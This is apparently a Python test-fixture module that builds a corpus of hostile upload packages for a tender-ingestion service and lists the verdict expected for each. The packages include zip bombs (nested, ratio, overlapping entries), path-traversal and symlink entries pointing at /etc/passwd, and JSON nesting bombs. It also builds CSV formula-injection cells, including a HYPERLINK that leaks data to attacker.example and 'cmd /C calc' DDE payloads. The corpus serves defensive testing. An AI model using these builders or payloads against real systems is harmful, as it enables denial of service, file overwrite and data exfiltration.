"""The hostile package corpus: each attack, how to build it on disk, and the verdict Tenderflow owes it.

Every builder streams to a file, so even the bombs cost the test little memory. Verdicts are the final ones a
job reports: a file accepted by the archive reader but refused by its extractor (a JSON nesting bomb) carries
the extractor's code.
"""

from __future__ import annotations

import csv
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from tenderflow_ingest.testing.forge import (
    DEFLATED,
    ENCRYPTED_FLAG,
    MIB,
    SYMLINK_MODE,
    UTF8_NAME_FLAG,
    Forged,
    ZipForger,
    central_record,
    deflate,
    deflated,
    empty_zip,
    forge_zip,
    local_header,
    zeros_deflated,
)
from tenderflow_ingest.testing.office import xlsx_bomb

GOOD_NAME = "tender/release.json"
GOOD_JSON = json.dumps({
    "uri": "https://tenders.example/ocds/ghent-2025-001.json",
    "publishedDate": "2025-03-01T09:00:00Z",
    "releases": [{
        "ocid": "ocds-tf0001-ghent-2025-001",
        "date": "2025-03-01T09:00:00Z",
        "tag": ["tender"],
        "buyer": {"id": "BE-0207451227", "name": "City of Ghent"},
        "tender": {
            "id": "GH-2025-001",
            "title": "Framework agreement for road maintenance",
            "procurementMethod": "open",
            "value": {"amount": 250000, "currency": "EUR"},
            "tenderPeriod": {"endDate": "2025-04-15T12:00:00Z"},
        },
    }],
}).encode()
# Every package that goes on with its good file ends with this verdict beside the attack's.
GOOD_VERDICT = {GOOD_NAME: None}

Builder = Callable[[Path], None]


@dataclass(frozen=True)
class HostileCase:
    """A hostile package, how to build it, and what Tenderflow must answer.

    Exactly one outcome applies: `http_status` (refused at upload), else `package_code` (the job fails with
    `reason_fragment` in its reason, after the per-file `verdicts` if any), else the job goes on with the
    accepted files and every file gets its verdict (code, or None for accepted).
    """

    id: str
    build: Builder
    verdicts: Mapping[str, str | None] = field(default_factory=dict)
    package_code: str | None = None
    reason_fragment: str | None = None
    http_status: int | None = None

    @property
    def goes_on(self) -> bool:
        """True when the job should carry on with the files that were accepted."""
        return self.http_status is None and self.package_code is None


OVERLAP_ENTRIES = 64
NESTED_NAMES = [f"lib-{i:02d}.zip" for i in range(16)]
OVERLAP_NAMES = [f"overlap-{i:02d}.csv" for i in range(OVERLAP_ENTRIES)]
NO_USABLE = ("no_usable_documents", "No file in the package could be used")


def hostile_cases(marker: str = "tf-escape") -> list[HostileCase]:
    """The whole corpus; `marker` goes into every name that tries to escape, so a test can look for it."""
    slips = [f"../slip-{marker}.json", f"..\\slip-{marker}.json", f"docs/../../slip2-{marker}.json",
             f"docs\\..\\..\\slip3-{marker}.json"]
    absolutes = [f"/tmp/abs-{marker}.json", f"C:\\abs-{marker}.json", f"\\\\server\\share\\abs-{marker}.json"]
    tricks = ["evil\x00.json", "tender\u202enosj.exe", "invoice\u202efdp.json", "zero\u200bwidth.json"]
    return [
        _goes_on("nested_42_bomb", nested_bomb, _each(NESTED_NAMES, "nested_archive")),
        HostileCase("ratio_bomb", ratio_bomb, {"tender.json": "ratio_exceeded"}, *NO_USABLE),
        _goes_on("overlap_bomb", overlap_bomb, _each(OVERLAP_NAMES, "overlapping_entry")),
        _goes_on("size_lies", size_lies, _each(["liar.csv", "liar64.csv", "overclaim64.json"],
                                               "corrupt_entry")),
        _goes_on("zip_slip", _with_good(slips), _each(slips, "path_traversal")),
        _goes_on("absolute_paths", _with_good(absolutes), _each(absolutes, "absolute_path")),
        _goes_on("symlinks", symlinks(marker), _each([f"link-{marker}.json", f"docs/dir-{marker}"],
                                                     "symlink")),
        HostileCase("hundred_thousand_entries", many_entries, package_code="too_many_entries",
                    reason_fragment="more than"),
        _goes_on("not_a_pdf", not_a_pdf, _each(["tender.pdf", "scan.pdf", "page.pdf"], "type_mismatch")),
        _goes_on("json_nesting_bomb", json_nesting_bomb,
                 _each(["deep-array.json", "deep-object.json"], "json_too_deep")),
        _goes_on("csv_formulas", csv_formulas, {"prices.csv": None}),
        _goes_on("office_disguises", office_disguises,
                 {"prices.xlsx": "ratio_exceeded", "annex.xlsx": "nested_archive"}),
        HostileCase("truncated_archive", truncated_archive, package_code="corrupt_archive",
                    reason_fragment="corrupt"),
        HostileCase("encrypted_archive", encrypted_archive, _each(["secret.json", "secret.pdf"], "encrypted"),
                    *NO_USABLE),
        HostileCase("empty_archive", lambda path: path.write_bytes(empty_zip()), package_code="empty_archive",
                    reason_fragment="no files"),
        HostileCase("pdf_as_package", lambda path: path.write_bytes(minimal_pdf()), http_status=415),
        _goes_on("hostile_names", _with_good(tricks), _each(tricks, "control_characters")),
    ]


def _each(names: list[str], code: str) -> dict[str, str | None]:
    return dict.fromkeys(names, code)


def _goes_on(case_id: str, build: Builder, verdicts: dict[str, str | None]) -> HostileCase:
    """A case whose package also holds the good file, so the job must carry on with it."""
    return HostileCase(case_id, build, {**verdicts, **GOOD_VERDICT})


def good_entry() -> Forged:
    return deflated(GOOD_NAME, GOOD_JSON)


def write_forged(path: Path, entries, aliases=(), declared_count: int | None = None) -> None:
    """Stream forged entries into a ZIP at path."""
    with path.open("wb") as out:
        forger = ZipForger(out)
        forger.add_all(entries)
        for target, alias in aliases:
            forger.alias(target, alias)
        forger.finish(declared_count)


def _with_good(names: list[str]) -> Builder:
    """Entries under hostile names, each holding good JSON, then the good file."""
    return lambda path: write_forged(path, [*(deflated(name, GOOD_JSON) for name in names), good_entry()])


# --- bombs -------------------------------------------------------------------------------------------------


def nested_bomb(path: Path, depth: int = 3, fan_out: int = 16, base_bytes: int = 256 * MIB) -> None:
    """42.zip's shape: `depth` layers of `fan_out` ZIPs around zeros; 16**3 * 256 MiB is 1 TiB in ~200 kB."""
    payload, crc = zeros_deflated(base_bytes)
    layer = forge_zip([
        Forged(f"book-{i:02d}.pdf", payload, DEFLATED, plain=b"", declared_size=base_bytes, crc=crc)
        for i in range(fan_out)
    ])
    for _ in range(depth - 2):
        layer = _fan_out(layer, fan_out)
    compressed = deflate(layer)
    write_forged(path, [
        *(Forged(f"lib-{i:02d}.zip", compressed, DEFLATED, plain=layer) for i in range(fan_out)),
        good_entry(),
    ])


def _fan_out(inner: bytes, count: int) -> bytes:
    """A ZIP of `count` deflated copies of inner, compressed once."""
    compressed = deflate(inner)
    return forge_zip([Forged(f"lib-{i:02d}.zip", compressed, DEFLATED, plain=inner) for i in range(count)])


def ratio_bomb(path: Path, size: int = 512 * MIB) -> None:
    """One entry of zeros at ~1000:1, honest in its headers: only the ratio gives it away."""
    payload, crc = zeros_deflated(size)
    write_forged(path, [Forged("tender.json", payload, DEFLATED, plain=b"", declared_size=size, crc=crc)])


def overlap_bomb(path: Path, entries: int = OVERLAP_ENTRIES, kernel_bytes: int = 16 * MIB) -> None:
    """David Fifield's construction: each entry's data quotes the next local header and runs on to one kernel.

    Entry i inflates to headers i+1..n-1 and then the kernel, so n entries cost one kernel of space and expand
    to about n kernels; the records are honest, only their overlap gives the bomb away.
    """
    kernel, _ = zeros_deflated(kernel_bytes)
    names = [f"overlap-{i:02d}.csv".encode() for i in range(entries)]  # OVERLAP_NAMES at the default count
    headers: list[bytes] = [b""] * entries
    fields: list[tuple[int, int, int]] = [(0, 0, 0)] * entries  # crc, size, compressed size
    quoted = b""  # headers of the entries after i, as entry i outputs them
    for i in reversed(range(entries)):
        crc = _crc_of_zeros(kernel_bytes, zlib.crc32(quoted))
        compressed = len(kernel) + sum(5 + len(h) for h in headers[i + 1:])
        size = len(quoted) + kernel_bytes
        headers[i] = local_header(names[i], UTF8_NAME_FLAG, DEFLATED, crc, compressed, size)
        fields[i] = (crc, size, compressed)
        quoted = headers[i] + quoted
    with path.open("wb") as out:
        forger = ZipForger(out)
        forger.add(good_entry())
        offsets = []
        for i, header in enumerate(headers):
            if i:  # a non-final stored deflate block whose content is the header that follows it
                forger.write_raw(_stored_block_start(len(header)))
            offsets.append(forger.write_raw(header))
        forger.write_raw(kernel)
        for i, (crc, size, compressed) in enumerate(fields):
            entry = Forged(names[i].decode(), b"", DEFLATED)
            record = central_record(entry, names[i], UTF8_NAME_FLAG, crc, size, offsets[i], compressed)
            forger.add_record(record)
        forger.finish()


def _stored_block_start(length: int) -> bytes:
    """BFINAL=0, BTYPE=00, padding, then LEN and its complement: the next `length` bytes are output as is."""
    return b"\x00" + struct.pack("<2H", length, length ^ 0xFFFF)


def _crc_of_zeros(count: int, crc: int) -> int:
    chunk = bytes(MIB)
    for _ in range(count // MIB):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(bytes(count % MIB), crc)


def many_entries(path: Path, count: int = 100_000) -> None:
    """A directory of 100,000 tiny files (ZIP64 end records, since the plain one counts to 65,535)."""
    write_forged(path, (Forged(f"f{i:06d}.csv", b"a,b\n1,2\n") for i in range(count)))


# --- lies and refusals -------------------------------------------------------------------------------------


def size_lies(path: Path) -> None:
    """Headers that understate (plain and ZIP64) or overstate the size; only counting real bytes tells."""
    rng = random.Random(42)
    real = "\n".join(f"{rng.random()},{rng.random()}" for _ in range(20_000)).encode()
    write_forged(path, [
        deflated("liar.csv", real, declared_size=1000),
        deflated("liar64.csv", real, zip64_declared_size=1000),
        deflated("overclaim64.json", GOOD_JSON, zip64_declared_size=50 * 1024 * MIB),
        good_entry(),
    ])


def symlinks(marker: str) -> Builder:
    return lambda path: write_forged(path, [
        Forged(f"link-{marker}.json", b"/etc/passwd", external_attr=SYMLINK_MODE),
        Forged(f"docs/dir-{marker}", b"../../../../../tmp", external_attr=SYMLINK_MODE),
        good_entry(),
    ])


def not_a_pdf(path: Path) -> None:
    """Names that promise a PDF over JSON, random bytes and HTML."""
    write_forged(path, [
        deflated("tender.pdf", GOOD_JSON),
        deflated("scan.pdf", random.Random(7).randbytes(4096)),
        deflated("page.pdf", b"<!DOCTYPE html><html><body>Tender notice</body></html>"),
        good_entry(),
    ])


def json_nesting_bomb(path: Path, depth: int = 100_000) -> None:
    """100,000 nested arrays (and objects): under the ratio check's size, deadly for a recursive parser."""
    write_forged(path, [
        deflated("deep-array.json", b"[" * depth + b"]" * depth),
        deflated("deep-object.json", b'{"a":' * depth + b"1" + b"}" * depth),
        good_entry(),
    ])


def office_disguises(path: Path) -> None:
    """A zip bomb dressed as a workbook (stored, so only its own parts inflate), and a plain ZIP named .xlsx."""
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as archive:
        archive.writestr("inner.json", GOOD_JSON)
    write_forged(path, [
        Forged(name="prices.xlsx", payload=xlsx_bomb(200 * MIB)),
        Forged(name="annex.xlsx", payload=plain_zip.getvalue()),
        good_entry(),
    ])


FORMULA_CELLS = (
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_formulas(path: Path) -> None:
    """A price schedule whose cells are spreadsheet formulas: fine to index, dangerous to export unquoted."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["Lot", "Description", "Contact", "Value"])
    for number, cell in enumerate(FORMULA_CELLS, start=1):
        writer.writerow([number, cell, cell, cell])
    write_forged(path, [deflated("prices.csv", buffer.getvalue().encode()), good_entry()])


def truncated_archive(path: Path) -> None:
    """A real archive cut short, as an interrupted upload leaves it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(GOOD_NAME, GOOD_JSON)
        archive.writestr("prices.csv", b"Lot,Value\n" + b"1,100\n" * 50_000)
    whole = buffer.getvalue()
    path.write_bytes(whole[: len(whole) * 2 // 3])


def encrypted_archive(path: Path) -> None:
    """Every entry encrypted (ZipCrypto's flag over random bytes): nothing we can read."""
    rng = random.Random(3)
    write_forged(path, [
        Forged("secret.json", rng.randbytes(512), DEFLATED, plain=GOOD_JSON, flags=ENCRYPTED_FLAG),
        Forged("secret.pdf", rng.randbytes(2048), DEFLATED, plain=b"%PDF-1.7", flags=ENCRYPTED_FLAG),
    ])


def minimal_pdf() -> bytes:
    """A one-page PDF written by hand, for uploads that are a PDF instead of a package."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = io.BytesIO(b"%PDF-1.7\n")
    out.seek(0, io.SEEK_END)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()
